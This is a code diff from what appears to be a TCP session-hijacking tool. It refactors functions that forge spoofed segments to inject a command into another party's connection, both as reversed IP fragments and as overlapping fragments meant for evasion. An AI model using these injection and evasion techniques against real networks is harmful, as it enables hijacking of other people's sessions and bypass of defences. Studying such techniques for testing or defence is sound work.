@@ -305,13 +305,19 @@ def a_inject_data(at):
         at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command")
 
 
+def _injected(at):
+    """The command to inject as the client, the TCP header length forge() gives it
+    (timestamps or not) and the segment's length."""
+    data = line(at.args.payload)
+    hl = 32 if at.c.tsval is not None else 20
+    return data, hl, hl + len(data)
+
+
 def a_inject_data_frag(at):
     """The classic hijack, the injected segment sent as IP fragments of 24 bytes (the
     first splits the TCP header from its options), in reverse order."""
     if _after_exchange(at, at.args.after):
-        data = line(at.args.payload)
-        hl = 32 if at.c.tsval is not None else 20
-        total = hl + len(data)
+        data, hl, total = _injected(at)
         spec = [(o, min(24, total - o), None) for o in range(0, total, 24)]
         at.forge("c", "PA", at.c.nxt, at.s.nxt, data, note="injected command, fragmented",
                  frags=list(reversed(spec)))
@@ -323,9 +329,7 @@ def a_frag_overlap(at):
     evasion: which version the receiver keeps is its policy; Linux drops the whole
     datagram, so the command never reaches the server)."""
     if _after_exchange(at, at.args.after):
-        data = line(at.args.payload)
-        hl = 32 if at.c.tsval is not None else 20
-        total = hl + len(data)
+        data, hl, total = _injected(at)
         cut = (hl + 8) // 8 * 8
         other = b"X" * 16
         spec = [(0, cut, None), (cut - 8, len(other), other), (cut, total - cut, None)]
